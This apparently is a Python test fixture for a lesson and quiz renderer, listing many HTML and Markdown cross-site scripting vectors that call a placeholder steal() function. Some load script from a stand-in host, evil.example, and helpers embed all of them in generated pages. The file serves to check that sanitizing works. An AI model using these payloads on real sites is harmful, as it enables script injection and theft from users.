"""Ways in which text has run script in pages elsewhere; all must come out inert."""

# `steal()` is what a smuggled script would call.
HTML = [
    "<script>steal()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>steal()</scr</script>ipt>",
    "<script\x0b>steal()</script>",
    "<script/x>steal()</script>",
    "<img src=x onerror=steal()>",
    "<img src=x oNeRrOr=steal()>",
    "<img src=x onerror\n=\nsteal()>",
    "<img/src=x/onerror=steal()>",
    "<img src='x' onerror='steal()' alt='x'>",
    "<img src=`x` onerror=`steal()`>",
    "<img \"\"\"><script>steal()</script>\">",
    "<svg onload=steal()>",
    "<svg><script>steal()</script></svg>",
    "<svg><script href=data:text/javascript,steal() /></svg>",
    "<svg><animate onbegin=steal() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:steal()><text y=20>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:steal() /></svg>",
    "<svg><foreignObject><iframe onload=steal()></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='steal()'/>#x\"></svg>",
    "<svg><style><img src=x onerror=steal()></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=steal()>",
    "<math href=javascript:steal()>x</math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=steal()></annotation-xml></math>",
    "<iframe src=javascript:steal()></iframe>",
    "<iframe srcdoc='<script>parent.steal()</script>'></iframe>",
    "<iframe onload=steal()></iframe>",
    "<object data=javascript:steal()></object>",
    "<object data=data:text/html,<script>parent.steal()</script>></object>",
    "<embed src=javascript:steal()>",
    "<applet code=steal()></applet>",
    "<body onload=steal()>",
    "<html onfocus=steal() autofocus>",
    "<input autofocus onfocus=steal()>",
    "<select autofocus onfocus=steal()></select>",
    "<textarea autofocus onfocus=steal()></textarea>",
    "<keygen autofocus onfocus=steal()>",
    "<details open ontoggle=steal()><summary>x</summary></details>",
    "<video src=x onerror=steal()></video>",
    "<video><source onerror=steal()></video>",
    "<audio src=x onerror=steal()></audio>",
    "<marquee onstart=steal()>x</marquee>",
    "<a href=javascript:steal() id=go>x</a>",
    "<a href='java\nscript:steal()'>x</a>",
    "<a href='&#106;avascript:steal()'>x</a>",
    "<a href='&#x6A;avascript&colon;steal()'>x</a>",
    "<a href=' javascript:steal()'>x</a>",
    "<a href='\x01javascript:steal()'>x</a>",
    "<a href=data:text/html,<script>steal()</script>>x</a>",
    "<a href=vbscript:steal()>x</a>",
    "<a href=x onclick=steal() onmouseover=steal()>x</a>",
    "<form action=javascript:steal()><button>x</button></form>",
    "<button formaction=javascript:steal()>x</button>",
    "<isindex action=javascript:steal() type=submit>",
    "<base href=javascript:steal()//>",
    "<meta http-equiv=refresh content='0;url=javascript:steal()'>",
    "<link rel=stylesheet href=javascript:steal()>",
    "<link rel=import href=data:text/html,<script>steal()</script>>",
    "<style>@import 'javascript:steal()'; *{background:url(javascript:steal())}</style>",
    "<div style='background:url(javascript:steal())'>x</div>",
    "<div style='width:expression(steal())'>x</div>",
    "<table background=javascript:steal()><tr><td>x</table>",
    "<!--><script>steal()</script>-->",
    "<!-- --!><script>steal()</script>",
    "<![CDATA[<script>steal()</script>]]>",
    "<?xml version='1.0'?><script>steal()</script>",
    "<noscript><p title='</noscript><img src=x onerror=steal()>'></noscript>",
    "<template><script>steal()</script></template>",
    "<title><img src=x onerror=steal()></title>",
    "<xmp><script>steal()</script></xmp>",
    "<plaintext><script>steal()</script>",
    "<p title='<script>steal()</script>'>x</p>",
    "<p id='\"><script>steal()</script>'>x</p>",
    "</article></main></body></html><script>steal()</script>",
    "\x00<script>steal()</script>",
    "<s\x00cript>steal()</s\x00cript>",
]
MARKDOWN = [
    "[x](javascript:steal())",
    "[x](<javascript:steal()>)",
    "[x](JaVaScRiPt:steal())",
    "[x](javascript&colon;steal())",
    "[x](&#106;avascript:steal())",
    "[x](data:text/html;base64,PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+)",
    "![x](javascript:steal())",
    "![x](x\"onerror=\"steal())",
    "![x](fig/a.png \"t\" onerror=steal())",
    "![x](fig/a.png){onerror=\"steal()\"}",
    "[x](https://example.org){onclick=\"steal()\" style=\"x\"}",
    "[x]: javascript:steal()\n\n[x]",
    "<javascript:steal()>",
    "`<script>steal()</script>`",
    "```{=html}\n<script>steal()</script>\n```",
    "```\"><script>steal()</script>\nx\n```",
    "::: {.callout onclick=\"steal()\"}\nx\n:::",
    "# <script>steal()</script> {#x\"onclick=\"steal()}",
    "x[^1]\n\n[^1]: <script>steal()</script>",
    "| <script>steal()</script> |\n|---|\n| <img src=x onerror=steal()> |",
]


def lesson():
    """All attempts in one page, each below a heading of its own."""
    parts = ["---\ntitle: \"<script>steal()</script><img src=x onerror=steal()>\"\n---\n"]
    for number, attempt in enumerate(HTML + MARKDOWN):
        parts.append(f"\n## Attempt {number}\n\n{attempt}\n\nText with {attempt.splitlines()[0]} in it.\n")
    parts.append(
        "\n::: challenge\n## <img src=x onerror=steal()>\n\n- [ ] <img src=x onerror=steal()> a\n"
        "- [ ] <svg onload=steal()> b\n- [ ] c\n\n::: solution\n- [x] <img src=x onerror=steal()> a\n"
        "- [ ] <svg onload=steal()> b\n- [ ] c\n\n<script>steal()</script>\n:::\n:::\n")
    return "".join(parts)


def quizzes():
    """A question for each attempt that fits into a line: in its text, its options and its solution."""
    parts = ["---\ntitle: Quizzes\n---\n"]
    for number, attempt in enumerate(HTML + MARKDOWN):
        if "\n" in attempt:
            continue
        rest = f"] a {attempt}\n- [ ] b\n- [ ] {attempt} c\n"
        parts.append(
            f"\n::: challenge\n## Attempt {number} {attempt}\n\nWhich {attempt} is it?\n\n"
            + f"- [ {rest}\n::: solution\n- [x{rest}"
            + f"\nIt is {attempt} a.\n:::\n:::\n")
    return "".join(parts)
